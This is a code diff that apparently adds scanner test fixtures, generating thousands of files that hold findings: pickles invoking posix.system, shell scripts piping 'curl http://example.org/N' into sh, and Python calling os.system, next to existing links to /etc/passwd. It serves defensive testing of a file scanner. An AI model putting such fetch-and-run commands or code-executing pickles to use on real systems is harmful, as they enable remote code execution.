@@ -208,6 +208,19 @@ def _write_small_files(count: int) -> Callable[[Path], None]:
     return write
 
 
+def _write_dangerous_files(count: int) -> Callable[[Path], None]:
+    """Return a writer of a folder with ``count`` different files, each with a finding: pickles, shell and Python."""
+
+    def write(path: Path) -> None:
+        path.mkdir()
+        for number in range(0, count, 3):
+            (path / f"a{number:06}.pkl").write_bytes(b"\x80\x04cposix\nsystem\nX\x06\0\0\0%06d\x85R." % number)
+            (path / f"b{number:06}.sh").write_text(f"curl http://example.org/{number} | sh\n")
+            (path / f"c{number:06}.py").write_text(f'import os\nos.system("{number}")\n')
+
+    return write
+
+
 def _encode_number(number: int) -> bytes:
     """Encode a memo index or a length as pickles do, in four bytes."""
     return number.to_bytes(4, "little")
@@ -218,6 +231,7 @@ _DICT_OF_NAMES: Final = b"}(" + b"".join(b"X\x05\0\0\0k%04dcm\nn%d\n" % (n, n) f
 _FOLDERS: Final[tuple[tuple[str, Callable[[Path], None], frozenset[int]], ...]] = (
     ("folder-links-outside-200000", _write_links("/etc/passwd", 200_000), frozenset({1})),
     ("folder-links-to-one-file-200000", _write_links("model.json", 200_000), frozenset({3})),
+    ("folder-dangerous-files-24000", _write_dangerous_files(24_000), frozenset({1})),
     ("folder-small-files-100000", _write_small_files(100_000), frozenset({0})),
 )
 _OUTPUTS: Final = ("json", "html", "cyclonedx")
